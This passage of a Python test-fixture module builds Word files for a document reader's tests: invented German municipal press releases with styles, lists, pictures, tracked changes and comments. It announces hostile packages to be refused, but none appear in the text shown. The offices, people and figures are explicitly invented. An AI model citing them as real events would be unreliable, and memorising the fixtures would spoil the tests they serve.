"""Word files for the tests, built from source: nine ordinary press releases and seven packages that must be refused or defused.

All offices, people and places are invented. ``FILES[name]()`` gives the bytes of a .docx whose expected reading is ``name.md``;
``HOSTILE[name]()`` gives bytes without an expected reading. The same call gives the same bytes each time.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass, field
from datetime import datetime
from io import BytesIO
from typing import BinaryIO
from xml.sax.saxutils import escape, quoteattr
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

from docx import Document
from docx.document import Document as DocxDocument
from docx.opc.constants import RELATIONSHIP_TYPE
from docx.oxml import OxmlElement, parse_xml
from docx.oxml.ns import qn
from docx.shared import Cm
from docx.table import Table
from docx.text.paragraph import Paragraph
from PIL import Image, ImageDraw

# --------------------------------------------------------------------------------------------------------------------
# Names
# --------------------------------------------------------------------------------------------------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006"

NAMESPACES = {
    "w": W,
    "r": R,
    "wp": "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing",
    "a": "http://schemas.openxmlformats.org/drawingml/2006/main",
    "pic": "http://schemas.openxmlformats.org/drawingml/2006/picture",
    "mc": "http://schemas.openxmlformats.org/markup-compatibility/2006",
    "wps": "http://schemas.microsoft.com/office/word/2010/wordprocessingShape",
    "w14": "http://schemas.microsoft.com/office/word/2010/wordml",
    "v": "urn:schemas-microsoft-com:vml",
    "o": "urn:schemas-microsoft-com:office:office",
}
XMLNS = " ".join(f'xmlns:{prefix}="{uri}"' for prefix, uri in NAMESPACES.items()) + ' mc:Ignorable="w14"'
DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'

WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml"
MAIN_TYPE = f"{WORD_TYPE}.document.main+xml"
MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"

TARGET_MODE = ' TargetMode="External"'
NBSP = "\u00a0"
WORD_BULLET = "\uf0b7"

# --------------------------------------------------------------------------------------------------------------------
# Packages
# --------------------------------------------------------------------------------------------------------------------


def _zip(parts: Mapping[str, bytes | str]) -> bytes:
    """Pack parts in their order, all with the same old time stamp."""
    buffer = BytesIO()
    with ZipFile(buffer, "w", ZIP_DEFLATED) as package:
        for name, data in parts.items():
            info = ZipInfo(name, (1980, 1, 1, 0, 0, 0))
            info.compress_type = ZIP_DEFLATED
            package.writestr(info, data)
    return buffer.getvalue()


def _bytes_of(document: DocxDocument) -> bytes:
    """Save a python-docx document, without the time of saving in the zip."""
    buffer = BytesIO()
    document.save(buffer)
    with ZipFile(buffer) as package:
        return _zip({name: package.read(name) for name in package.namelist()})


def _relationships(rows: Sequence[tuple[str, str, str, bool]]) -> str:
    """Write a .rels part out of (id, type, target, external)."""
    inner = "".join(
        f'<Relationship Id="{rid}" Type="{kind}" Target={quoteattr(target)}{TARGET_MODE if external else ""}/>'
        for rid, kind, target, external in rows
    )
    return f'{DECLARATION}<Relationships xmlns="{PACKAGE}/relationships">{inner}</Relationships>'


def _content_types(overrides: Mapping[str, str]) -> str:
    """Write [Content_Types].xml."""
    defaults = {
        "rels": "application/vnd.openxmlformats-package.relationships+xml",
        "xml": "application/xml",
        "png": "image/png",
        "jpeg": "image/jpeg",
        "bin": "application/vnd.openxmlformats-officedocument.oleObject",
    }
    inner = "".join(f'<Default Extension="{ending}" ContentType="{kind}"/>' for ending, kind in defaults.items())
    inner += "".join(f'<Override PartName="/{name}" ContentType="{kind}"/>' for name, kind in overrides.items())
    return f'{DECLARATION}<Types xmlns="{PACKAGE}/content-types">{inner}</Types>'


def _core(title: str, created: str, keywords: str, creator: str, language: str) -> str:
    """Write docProps/core.xml; empty values are left out, as Word does."""
    inner = f"<dc:title>{escape(title)}</dc:title>" if title else ""
    inner += f"<dc:creator>{escape(creator)}</dc:creator>" if creator else ""
    inner += f"<cp:keywords>{escape(keywords)}</cp:keywords>" if keywords else ""
    inner += f"<cp:lastModifiedBy>{escape(creator)}</cp:lastModifiedBy><cp:revision>4</cp:revision>" if creator else ""
    for tag in ("created", "modified"):
        inner += f'<dcterms:{tag} xsi:type="dcterms:W3CDTF">{created}</dcterms:{tag}>'
    inner += f"<dc:language>{language}</dc:language>" if language else ""
    return (
        f'{DECLARATION}<cp:coreProperties xmlns:cp="{PACKAGE}/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:dcterms="http://purl.org/dc/terms/" '
        f'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">{inner}</cp:coreProperties>'
    )


@dataclass
class _Package:
    """A Word package under construction; the body is written as XML text."""

    main_type: str = MAIN_TYPE
    rows: list[tuple[str, str, str, bool]] = field(default_factory=list)
    parts: dict[str, bytes | str] = field(default_factory=dict)
    overrides: dict[str, str] = field(default_factory=dict)

    def relate(self, kind: str, target: str, *, external: bool = False) -> str:
        """Add a relation of the main document and return its id."""
        rid = f"rId{len(self.rows) + 1}"
        self.rows.append((rid, kind if "/" in kind else f"{R}/{kind}", target, external))
        return rid

    def part(self, kind: str, xml: str, *, number: str = "") -> str:
        """Add word/KIND.xml with its relation and content type."""
        name = f"{kind}{number}.xml"
        self.parts[f"word/{name}"] = DECLARATION + xml
        self.overrides[f"word/{name}"] = f"{WORD_TYPE}.{kind}+xml"
        return self.relate(kind, name)

    def picture(self, name: str, data: bytes) -> str:
        """Add word/media/NAME."""
        self.parts[f"word/media/{name}"] = data
        return self.relate("image", f"media/{name}")

    def link(self, address: str, *content: str) -> str:
        """Write a w:hyperlink that goes through a relation."""
        rid = self.relate("hyperlink", address, external=True)
        return f'<w:hyperlink r:id="{rid}" w:history="1">{_runs(content, LINK)}</w:hyperlink>'

    def build(
        self,
        body: str,
        *,
        title: str = "",
        created: str = "2019-08-05T07:30:00Z",
        keywords: str = "",
        creator: str = "Pressestelle",
        language: str = "",
        section: str = "",
    ) -> bytes:
        """Put the package together."""
        document = (
            f"{DECLARATION}<w:document {XMLNS}><w:body>{body}<w:sectPr>{section}"
            '<w:pgSz w:w="11906" w:h="16838"/><w:pgMar w:top="1417" w:right="1417" w:bottom="1134" w:left="1417" '
            'w:header="708" w:footer="708" w:gutter="0"/></w:sectPr></w:body></w:document>'
        )
        top = [
            ("rId1", f"{R}/officeDocument", "word/document.xml", False),
            ("rId2", f"{PACKAGE}/relationships/metadata/core-properties", "docProps/core.xml", False),
        ]
        overrides = {
            "word/document.xml": self.main_type,
            "docProps/core.xml": "application/vnd.openxmlformats-package.core-properties+xml",
            **self.overrides,
        }
        return _zip(
            {
                "[Content_Types].xml": _content_types(overrides),
                "_rels/.rels": _relationships(top),
                "word/document.xml": document,
                "word/_rels/document.xml.rels": _relationships(self.rows),
                **self.parts,
                "docProps/core.xml": _core(title, created, keywords, creator, language),
            }
        )


# --------------------------------------------------------------------------------------------------------------------
# Pieces of WordprocessingML
# --------------------------------------------------------------------------------------------------------------------

BOLD = "<w:b/><w:bCs/>"
ITALIC = "<w:i/><w:iCs/>"
HIDDEN = "<w:vanish/>"
LINK = '<w:rStyle w:val="Hyperlink"/>'
BREAK = "<w:r><w:br/></w:r>"
TAB = "<w:r><w:tab/></w:r>"


def _r(text: str, properties: str = "", *, tag: str = "t", rsid: str = "") -> str:
    """Write one run of text."""
    mark = f' w:rsidRPr="{rsid}"' if rsid else ""
    inside = f"<w:rPr>{properties}</w:rPr>" if properties else ""
    return f'<w:r{mark}>{inside}<w:{tag} xml:space="preserve">{escape(text)}</w:{tag}></w:r>'


def _runs(content: Sequence[str], properties: str = "") -> str:
    """Join pieces: what begins with "<" is XML, anything else the text of a run."""
    return "".join(piece if piece.startswith("<") else _r(piece, properties) for piece in content)


def _p(*content: str, style: str = "", properties: str = "", rsid: str = "") -> str:
    """Write one paragraph."""
    inside = (f'<w:pStyle w:val="{style}"/>' if style else "") + properties
    inside = f"<w:pPr>{inside}</w:pPr>" if inside else ""
    mark = f' w:rsidR="{rsid}" w:rsidRDefault="{rsid}"' if rsid else ""
    return f"<w:p{mark}>{inside}{_runs(content)}</w:p>"


def _item(text: str, *, number: int, level: int = 0, style: str = "ListParagraph") -> str:
    """Write one list item with its own w:numPr."""
    return _p(text, style=style, properties=f'<w:numPr><w:ilvl w:val="{level}"/><w:numId w:val="{number}"/></w:numPr>')


def _field(instruction: Sequence[str], result: str) -> str:
    """Write a complex field; its instruction may be spread over several runs."""
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + "".join(_r(piece, tag="instrText") for piece in instruction)
        + f'<w:r><w:fldChar w:fldCharType="separate"/></w:r>{result}<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def _lines(*lines: str) -> str:
    """Write lines of one paragraph, with w:br between them."""
    return BREAK.join(_runs([line]) for line in lines)


def _styles(rows: Sequence[tuple[str, str, str]], *, normal: tuple[str, str] = ("Normal", "Normal")) -> str:
    """Write styles.xml: the default paragraph style and rows of (id, name, properties)."""
    normal_id, normal_name = normal
    inner = "".join(
        f'<w:style w:type="paragraph" w:styleId="{ident}"><w:name w:val="{name}"/><w:basedOn w:val="{normal_id}"/>'
        f'<w:next w:val="{normal_id}"/><w:qFormat/>{properties}</w:style>'
        for ident, name, properties in rows
    )
    return (
        f'<w:styles {XMLNS}><w:docDefaults><w:rPrDefault><w:rPr><w:sz w:val="22"/>'
        '<w:lang w:val="de-DE"/></w:rPr></w:rPrDefault>'
        f'<w:pPrDefault/></w:docDefaults><w:style w:type="paragraph" w:default="1" w:styleId="{normal_id}">'
        f'<w:name w:val="{normal_name}"/><w:qFormat/></w:style>{inner}'
        '<w:style w:type="character" w:styleId="Hyperlink"><w:name w:val="Hyperlink"/><w:rPr><w:color w:val="0563C1"/>'
        '<w:u w:val="single"/></w:rPr></w:style></w:styles>'
    )


def _heading(level: int) -> str:
    """Write the properties of a heading style."""
    size = 36 - 4 * level
    return f'<w:pPr><w:keepNext/><w:outlineLvl w:val="{level - 1}"/></w:pPr><w:rPr><w:b/><w:sz w:val="{size}"/></w:rPr>'


TITLE_STYLE = ("Title", "Title", '<w:rPr><w:sz w:val="48"/></w:rPr>')
HEADING_STYLES = [(f"Heading{level}", f"heading {level}", _heading(level)) for level in (1, 2, 3)]


def _numbering(kinds: Sequence[Sequence[str]], lists: Sequence[tuple[int, bool]]) -> str:
    """Write numbering.xml: one abstract list per sequence of level formats; lists are (abstract list, start again at 1)."""
    abstract, bullet = "", "bullet"
    for index, formats in enumerate(kinds):
        levels = "".join(
            f'<w:lvl w:ilvl="{level}"><w:start w:val="1"/><w:numFmt w:val="{kind}"/>'
            f'<w:lvlText w:val="{WORD_BULLET if kind == bullet else f"%{level + 1}."}"/><w:lvlJc w:val="left"/>'
            f'<w:pPr><w:ind w:left="{720 * (level + 1)}" w:hanging="360"/></w:pPr></w:lvl>'
            for level, kind in enumerate(formats)
        )
        abstract += (
            f'<w:abstractNum w:abstractNumId="{index}"><w:multiLevelType w:val="hybridMultilevel"/>{levels}</w:abstractNum>'
        )
    again = '<w:lvlOverride w:ilvl="0"><w:startOverride w:val="1"/></w:lvlOverride>'
    numbers = "".join(
        f'<w:num w:numId="{number}"><w:abstractNumId w:val="{kind}"/>{again if restart else ""}</w:num>'
        for number, (kind, restart) in enumerate(lists, 1)
    )
    return f"<w:numbering {XMLNS}>{abstract}{numbers}</w:numbering>"


# --------------------------------------------------------------------------------------------------------------------
# Pictures
# --------------------------------------------------------------------------------------------------------------------


def _draw(kind: str, sky: str, ground: str, thing: str) -> bytes:
    """Draw a small scene: sky, ground and one thing in between."""
    image = Image.new("RGB", (96, 64), sky)
    pen = ImageDraw.Draw(image)
    pen.rectangle((0, 44, 95, 63), fill=ground)
    pen.polygon([(20, 46), (36, 18), (60, 18), (76, 46)], fill=thing)
    buffer = BytesIO()
    image.save(buffer, kind)
    return buffer.getvalue()


def _properties(ident: int, name: str, alt: str | None, decorative: str) -> str:
    """Write wp:docPr; `decorative` is "", "0" or "1"."""
    inner = (
        '<a:extLst><a:ext uri="{C183D7F6-B498-43B3-948B-1728B52AA6E4}"><adec:decorative '
        f'xmlns:adec="http://schemas.microsoft.com/office/drawing/2017/decorative" val="{decorative}"/></a:ext></a:extLst>'
        if decorative
        else ""
    )
    words = "" if alt is None else f" descr={quoteattr(alt)}"
    return f'<wp:docPr id="{ident}" name={quoteattr(name)}{words}>{inner}</wp:docPr>'


def _graphic(blip: str, name: str) -> str:
    """Write a:graphic with one picture; `blip` holds the attributes of a:blip."""
    return (
        f'<a:graphic><a:graphicData uri="{NAMESPACES["pic"]}"><pic:pic><pic:nvPicPr><pic:cNvPr id="0" name={quoteattr(name)}/>'
        f"<pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {blip}/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>"
        '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="1371600" cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/>'
        "</a:prstGeom></pic:spPr></pic:pic></a:graphicData></a:graphic>"
    )


def _inline(blip: str, ident: int, *, alt: str | None = None, decorative: str = "") -> str:
    """Write a run with a picture in the line of text."""
    return (
        '<w:r><w:rPr><w:noProof/></w:rPr><w:drawing><wp:inline distT="0" distB="0" distL="0" distR="0">'
        f'<wp:extent cx="1371600" cy="914400"/>{_properties(ident, f"Grafik {ident}", alt, decorative)}<wp:cNvGraphicFramePr/>'
        f"{_graphic(blip, f'DSC_0{ident}17')}</wp:inline></w:drawing></w:r>"
    )


def _anchored(ident: int, name: str, alt: str | None, graphic: str) -> str:
    """Write a floating w:drawing."""
    return (
        '<w:drawing><wp:anchor distT="0" distB="0" distL="114300" distR="114300" simplePos="0" relativeHeight="251658240" '
        'behindDoc="0" locked="0" layoutInCell="1" allowOverlap="1"><wp:simplePos x="0" y="0"/>'
        '<wp:positionH relativeFrom="column"><wp:align>right</wp:align></wp:positionH>'
        '<wp:positionV relativeFrom="paragraph"><wp:posOffset>63500</wp:posOffset></wp:positionV>'
        '<wp:extent cx="1371600" cy="914400"/><wp:effectExtent l="0" t="0" r="0" b="0"/><wp:wrapSquare wrapText="bothSides"/>'
        f"{_properties(ident, name, alt, '')}<wp:cNvGraphicFramePr/>{graphic}</wp:anchor></w:drawing>"
    )


def _text_box(ident: int, content: str) -> str:
    """Write a text box as Word does: the new form, and the same text once more in VML for old readers."""
    inside = f"<w:txbxContent>{content}</w:txbxContent>"
    graphic = (
        f'<a:graphic><a:graphicData uri="{NAMESPACES["wps"]}"><wps:wsp><wps:cNvSpPr txBox="1"/><wps:spPr><a:xfrm><a:off x="0" '
        'y="0"/><a:ext cx="1371600" cy="914400"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></wps:spPr>'
        f"<wps:txbx>{inside}</wps:txbx><wps:bodyPr/></wps:wsp></a:graphicData></a:graphic>"
    )
    return (
        '<w:r><mc:AlternateContent><mc:Choice Requires="wps">'
        f"{_anchored(ident, f'Textfeld {ident}', None, graphic)}</mc:Choice>"
        f'<mc:Fallback><w:pict><v:shape id="Textfeld_{ident}" type="#_x0000_t202" '
        'style="position:absolute;width:108pt;height:72pt">'
        f"<v:textbox>{inside}</v:textbox></v:shape></w:pict></mc:Fallback></mc:AlternateContent></w:r>"
    )


# --------------------------------------------------------------------------------------------------------------------
# Pieces for python-docx
# --------------------------------------------------------------------------------------------------------------------


def _append(paragraph: Paragraph, xml: str) -> None:
    """Append written runs, fields or links to a paragraph of python-docx."""
    for child in parse_xml(f"<w:p {XMLNS}>{xml}</w:p>"):
        paragraph._p.append(child)


def _append_link(paragraph: Paragraph, address: str, text: str) -> None:
    """Append a link that goes through a relation."""
    rid = paragraph.part.relate_to(address, RELATIONSHIP_TYPE.HYPERLINK, is_external=True)
    _append(paragraph, f'<w:hyperlink r:id="{rid}" w:history="1">{_r(text)}</w:hyperlink>')


def _append_contact(document: DocxDocument, *lines: str, mail: str) -> None:
    """Append a paragraph of contact lines, the last one a link to an address."""
    paragraph = document.add_paragraph()
    _append(paragraph, _lines(*lines) + BREAK)
    _append_link(paragraph, f"mailto:{mail}", mail)


def _append_table(document: DocxDocument, rows: Sequence[Sequence[str]]) -> Table:
    """Append a table whose first row repeats as a header row."""
    table: Table = document.add_table(len(rows), len(rows[0]), style="Table Grid")
    for row, texts in zip(table.rows, rows, strict=True):
        for cell, text in zip(row.cells, texts, strict=True):
            if text:
                cell.text = text
    table.rows[0]._tr.get_or_add_trPr().append(OxmlElement("w:tblHeader"))
    return table


def _new_document(title: str, created: datetime, keywords: str) -> DocxDocument:
    """Open python-docx's template with German as its language and honest properties."""
    document = Document()
    for language in document.styles.element.xpath("w:docDefaults//w:lang"):
        language.set(qn("w:val"), "de-DE")
    properties = document.core_properties
    properties.title = title
    properties.author = properties.last_modified_by = "Pressestelle"
    properties.comments = ""
    properties.keywords = keywords
    properties.language = "de-DE"
    properties.created = properties.modified = created
    return document


# --------------------------------------------------------------------------------------------------------------------
# The ordinary files
# --------------------------------------------------------------------------------------------------------------------


def styled() -> bytes:
    """A well-made file with Word's own styles; its date stands in the properties only."""
    title = "Lindenbrücke wird ab April saniert"
    document = _new_document(title, datetime(2026, 2, 17, 8, 15), "Brückenbau, Verkehr; Stadtentwicklung")
    document.add_paragraph(title, style="Title")
    document.add_paragraph(
        "Stadt Musterhausen investiert 4,8 Millionen Euro in das denkmalgeschützte Bauwerk", style="Subtitle"
    )
    paragraph = document.add_paragraph(
        "Die Stadt Musterhausen beginnt am 13. April 2026 mit der Sanierung der Lindenbrücke. Das "
        "1911 errichtete Bauwerk bleibt "
        "während der gesamten Bauzeit "
    )
    paragraph.add_run("für Fußgänger und Radfahrer geöffnet", style="Strong")
    paragraph.add_run(". Autos und Busse werden über die Hafenstraße umgeleitet.")
    document.add_paragraph(
        "„Die Brücke ist ein Wahrzeichen unserer Stadt und zugleich eine Lebensader für den Norden“, sagte Oberbürgermeisterin "
        "Henrike Sandvoss bei der Vorstellung der Pläne. „Wir haben die Arbeiten so geplant, dass niemand länger als nötig im "
        "Stau steht.“"
    )
    document.add_paragraph("Drei Bauabschnitte bis zum Herbst 2027", style="Heading 1")
    document.add_paragraph(
        "Die Arbeiten gliedern sich in drei Abschnitte. Den größten Anteil an den Kosten hat der Überbau, dessen Stahlträger "
        "vollständig vom Rost befreit werden."
    )
    sequence = _field([r" SEQ Tabelle \* ARABIC "], _r("1", "<w:noProof/>"))
    _append(document.add_paragraph("Tabelle ", style="Caption"), sequence + _r(": Kosten und Bauzeit der Abschnitte"))
    _append_table(
        document,
        [
            ["Abschnitt", "Bauzeit", "Kosten"],
            ["Widerlager Süd", "April bis August 2026", "1,1 Millionen Euro"],
            ["Überbau", "September 2026 bis Mai 2027", "2,9 Millionen Euro"],
            ["Geländer und Beleuchtung", "Juni bis Oktober 2027", "0,8 Millionen Euro"],
        ],
    )
    document.add_paragraph("Was sich im Verkehr ändert", style="Heading 2")
    document.add_paragraph("Während der Sperrung gelten folgende Regelungen:")
    document.add_paragraph("Die Buslinien 3 und 7 fahren über die Hafenstraße.", style="List Bullet")
    document.add_paragraph("Der Wochenmarkt zieht auf den Domplatz um.", style="List Bullet")
    document.add_paragraph("Rettungsfahrzeuge dürfen die Baustelle jederzeit queren.", style="List Bullet")
    document.add_paragraph("So beteiligen sich Anlieger", style="Heading 1")
    document.add_paragraph("Anlieger können ihre Fragen in drei Schritten an das Bauamt richten:")
    paragraph = document.add_paragraph("Bauabschnitt auf der ", style="List Number")
    _append_link(paragraph, "https://www.musterhausen.example/lindenbruecke", "Projektseite")
    paragraph.add_run(" auswählen")
    document.add_paragraph("Frage eintragen und Adresse angeben", style="List Number")
    document.add_paragraph("Antwort innerhalb von fünf Werktagen abwarten", style="List Number")
    drawing = document.add_paragraph().add_run()
    shape = drawing.add_picture(BytesIO(_draw("PNG", "#a8d0e8", "#4a7fa5", "#8b7d6b")), width=Cm(4))
    shape._inline.docPr.set("descr", "Steinerne Bogenbrücke über einem Fluss, davor ein Bauzaun")
    _append(
        document.add_paragraph("Abbildung ", style="Caption"),
        rf'<w:fldSimple w:instr=" SEQ Abbildung \* ARABIC ">{_r("1")}</w:fldSimple>'
        + _r(": Die Lindenbrücke vor Beginn der Arbeiten. Foto: Jana Wolff/Stadt Musterhausen"),
    )
    _append_contact(document, "Pressestelle der Stadt Musterhausen", "Telefon: 0700 123456", mail="presse@musterhausen.example")
    return _bytes_of(document)


def german_names() -> bytes:
    """Style ids and names as German programs have written them."""
    package = _Package()
    package.part(
        "styles",
        _styles(
            [
                ("Titel", "Titel", '<w:rPr><w:sz w:val="48"/></w:rPr>'),
                ("Untertitel", "Subtitle", "<w:rPr><w:i/></w:rPr>"),
                ("berschrift1", "heading 1", _heading(1)),
                ("berschrift2", "Überschrift 2", _heading(2)),
                ("Listenabsatz", "Listenabsatz", '<w:pPr><w:ind w:left="720"/></w:pPr>'),
                ("Beschriftung", "Beschriftung", "<w:rPr><w:i/></w:rPr>"),
            ],
            normal=("Standard", "Standard"),
        ),
    )
    package.part("numbering", _numbering([["bullet", "bullet"]], [(0, False)]))
    picture = package.picture("image1.png", _draw("PNG", "#dfe9f0", "#7d8f69", "#c96f3b"))
    body = (
        _p("Pressemitteilung Nr. 23/2026", style="Standard")
        + _p("Nordstadt, den 4. Mai 2026", style="Standard")
        + _p("Neuer Wertstoffhof in Ostervelde nimmt den Betrieb auf", style="Titel")
        + _p("Kreis rechnet mit 40.000 Anlieferungen im Jahr", style="Untertitel")
        + _p(
            "Der Landkreis Nordmark öffnet am Samstag, 9. Mai 2026, den neuen Wertstoffhof in Ostervelde. Auf 6.500 "
            "Quadratmetern stehen künftig 24 Container für Holz, Metall, Grünschnitt und Elektrogeräte bereit. Der bisherige "
            "Hof an der Mühlenkoppel schließt am selben Tag."
        )
        + _p("Kürzere Wege, längere Öffnungszeiten", style="berschrift1")
        + _p(
            "„Wer abends von der Arbeit kommt, soll seinen Sperrmüll ohne Hetze loswerden“, erklärte Landrat Tjark Brodersen. "
            "Deshalb ist der Hof an zwei Tagen in der Woche bis 20 Uhr besetzt."
        )
        + _p(_inline(f'r:embed="{picture}"', 1, alt="Luftbild eines Hofes mit zwei Reihen bunter Container"))
        + _p(
            "Der Wertstoffhof kurz vor der Fertigstellung. © Landkreis Nordmark/Arne Petersen",
            style="Beschriftung",
        )
        + _p("Was angenommen wird", style="berschrift2")
        + _p("Kostenlos abgegeben werden können:")
        + _item("Altpapier und Kartonagen", number=1, style="Listenabsatz")
        + _item("Kühlschränke, Fernseher und andere Elektrogeräte", number=1, style="Listenabsatz")
        + _item("Grünschnitt bis zu zwei Kubikmeter je Anlieferung", number=1, style="Listenabsatz")
        + _p(
            "Bauschutt und Altreifen sind gebührenpflichtig. Die Preise hängen am Eingang aus und gelten bis zum Jahresende "
            "unverändert."
        )
        + _p("Anfahrt in den ersten Wochen", style="berschrift1")
        + _p(
            "Bis Ende Juni ist die Kreisstraße 12 nur einseitig befahrbar. Der Landkreis empfiehlt die Zufahrt über Lütjenhof. "
            "Dort weisen gelbe Schilder den Weg."
        )
        + _p("Landkreis Nordmark, Stabsstelle Presse")
        + _p("Telefon: 0700 234567")
        + _p(package.link("mailto:presse@nordmark.example", "presse@nordmark.example"))
    )
    return package.build(body)


def _noisy(text: str, properties: str = "") -> str:
    """Split a text at "|" into runs with revision ids and marks of the spelling checker, as Word does while people type."""
    marks = ("spellStart", "spellEnd", "gramStart", "gramEnd")
    runs = []
    for index, piece in enumerate(text.split("|")):
        if index:
            runs.append(f'<w:proofErr w:type="{marks[(index - 1) % 4]}"/>')
        runs.append(_r(piece, properties, rsid=f"00{(0x3A51C7 + 0x1F3D * index) & 0xFFFFFF:06X}"))
    return "".join(runs)


def unstyled() -> bytes:
    """No styles at all: letterhead, date line, bold lines and much noise between the letters."""
    package = _Package()
    package.part("styles", _styles([]))
    place = '<w:smartTag w:uri="urn:schemas-microsoft-com:office:smarttags" w:element="{}">{}</w:smartTag>'
    rsid = "00A41F2C"
    contact = _lines(
        _noisy("Landkreis |Nordmark|, Presse|stelle"),
        _noisy("Ansprech|partnerin: |Wiebke Lorenzen"),
        _r("Telefon: 0700 567890"),
        package.link("mailto:w.lorenzen@nordmark.example", _r("w.lorenzen@"), _r("nordmark.example")),
    )
    body = (
        _p(_noisy("Land|kreis Nordmark", BOLD), properties='<w:jc w:val="right"/>', rsid=rsid)
        + _p(_noisy("Presse|stelle"), properties='<w:jc w:val="right"/>', rsid=rsid)
        + _p(rsid=rsid)
        + _p(_noisy("Presse|mitteilung Nr.| 14/2026"), rsid=rsid)
        + _p(place.format("place", _r("Nordstadt")), _noisy(", |12.| März |2026"), rsid=rsid)
        + _p(rsid=rsid)
        + _p(
            '<w:bookmarkStart w:id="0" w:name="_Hlk190412345"/>',
            _noisy("Kreis sucht |Ehrenamtliche| für den Bevölkerungs|schutz", BOLD + '<w:sz w:val="28"/>'),
            '<w:bookmarkEnd w:id="0"/>',
            rsid=rsid,
        )
        + _p(rsid=rsid)
        + _p(
            _noisy(
                "Der Landkreis |Nordmark| baut seine Einheiten im Bevölkerungs|schutz aus und sucht bis zum Sommer 120 |"
                "ehrenamtliche Helferinnen und Helfer. Gefragt sind Menschen ab 16 Jahren, die bei Hoch|wasser, Strom|ausfall "
                "oder langen Such|aktionen mit anpacken wollen."
            ),
            rsid=rsid,
        )
        + _p(
            _noisy("„Technik können wir kaufen, Einsatz|bereitschaft nicht“, sagte Kreisbrand|meisterin "),
            place.format("PersonName", place.format("GivenName", _r("Swantje")) + _r(" ") + _r("Hinrichsen")),
            _noisy(" am Donnerstag in "),
            place.format("place", _r("Nordstadt")),
            _noisy(
                ". „Jede Stunde, die jemand |hier lernt|, hilft im Ernstfall der ganzen Nachbar|schaft.“ Vor|kenntnisse sind "
                "nicht nötig."
            ),
            rsid=rsid,
        )
        + _p(
            _noisy("Die Grund|ausbildung umfasst 48 Stunden und findet an sechs "),
            f'<w:r w:rsidR="{rsid}"><w:lastRenderedPageBreak/><w:t xml:space="preserve">Wochenenden statt. Der </w:t></w:r>',
            _noisy(
                "Landkreis übernimmt die |Kosten| für Kleidung, Fahrten und Ver|pflegung. Arbeitgeber erhalten den Lohn für "
                "Einsatz|zeiten erstattet."
            ),
            rsid=rsid,
        )
        + _p(_noisy("Informations|abend in der |Kreisverwaltung", BOLD), rsid=rsid)
        + _p(
            _noisy("Wer sich ein Bild machen möchte, ist am 26. |März 2026| um 18.30 Uhr in den "),
            '<w:bookmarkStart w:id="1" w:name="_GoBack"/><w:bookmarkEnd w:id="1"/>',
            _noisy(
                "Großen Sitzungs|saal eingeladen. Dort stellen sich alle sieben Fach|gruppen vor, von der Ver|pflegung bis zur "
                "Drohnen|staffel. Eine Anmeldung ist |nicht| erforderlich."
            ),
            rsid=rsid,
        )
        + _p(
            _noisy(
                "Im ver|gangenen Jahr rückten die Einheiten des Landkreises zu 63 |Einsätzen| aus, 17 mehr als im Jahr davor. "
                "Fast die Hälfte davon entfiel auf die beiden Hochwasser|lagen im Januar und im November."
            ),
            rsid=rsid,
        )
        + _p(rsid=rsid)
        + _p(contact, rsid=rsid)
        + _p(rsid=rsid)
    )
    return package.build(body, title="Vorlage PM Briefkopf neu", created="2021-11-30T13:05:00Z", creator="wlorenzen")


def tracked() -> bytes:
    """A file with tracked changes, comments and hidden text, as it comes out of the last round of corrections."""
    package = _Package()
    package.part("styles", _styles([TITLE_STYLE, *HEADING_STYLES]))
    who = 'w:author="K. Behrend" w:date="2026-05-18T10:12:00Z"'
    package.part(
        "comments",
        f"<w:comments {XMLNS}>"
        f'<w:comment w:id="0" {who} w:initials="KB">{_p("Bitte Zahl noch einmal prüfen lassen.")}</w:comment>'
        f'<w:comment w:id="1" {who} w:initials="KB">{_p("Klingt das nicht zu flapsig?")}</w:comment></w:comments>',
    )

    def inserted(text: str, ident: int) -> str:
        return f'<w:ins w:id="{ident}" {who}>{_r(text)}</w:ins>'

    def deleted(text: str, ident: int) -> str:
        return f'<w:del w:id="{ident}" {who}>{_r(text, tag="delText")}</w:del>'

    def comment(text: str, ident: int) -> str:
        return (
            f'<w:commentRangeStart w:id="{ident}"/>{_r(text)}<w:commentRangeEnd w:id="{ident}"/>'
            f'<w:r><w:commentReference w:id="{ident}"/></w:r>'
        )

    moved = "Gefördert werden der Kauf barrierefreier Kleinbusse sowie der Umbau vorhandener Fahrzeuge. Der Zuschuss beträgt "
    moved_end = "höchstens 80 Prozent der Kosten."
    body = (
        _p("Presseinformation Nr. 57/2026")
        + _p("Rheinburg, ", deleted("18", 101), inserted("19", 102), ". Mai 2026")
        + _p(
            "Land fördert ", deleted("35", 103), inserted("38", 104), " ", inserted("neue ", 105), "Bürgerbusse", style="Title"
        )
        + _p(
            "Das Land Rheinmark unterstützt in diesem Jahr ",
            deleted("35", 106),
            inserted("38", 107),
            " Bürgerbusvereine mit ",
            comment("insgesamt 2,6 Millionen Euro", 0),
            ". Das sind 400.000 Euro mehr als im Vorjahr.",
            deleted(" Weitere Vereine stehen auf der Warteliste.", 108),
        )
        + _p(
            "„Bürgerbusse fahren dort, wo sich eine Linie allein ",
            comment("nie rechnen würde", 1),
            "“, sagte Verkehrsministerin Dr. Almut Reinholz bei der Übergabe der Bescheide in Rheinburg.",
            _r(" Sperrfrist 11 Uhr beachten!", HIDDEN),
            " Hinter jedem Fahrzeug stünden ",
            inserted("im Schnitt ", 109),
            "25 Freiwillige, die sich Dienste, Wartung und Abrechnung teilen.",
        )
        + _p(
            deleted("Über eine Aufstockung der Mittel entscheidet das Kabinett erst nach der Sommerpause.", 111),
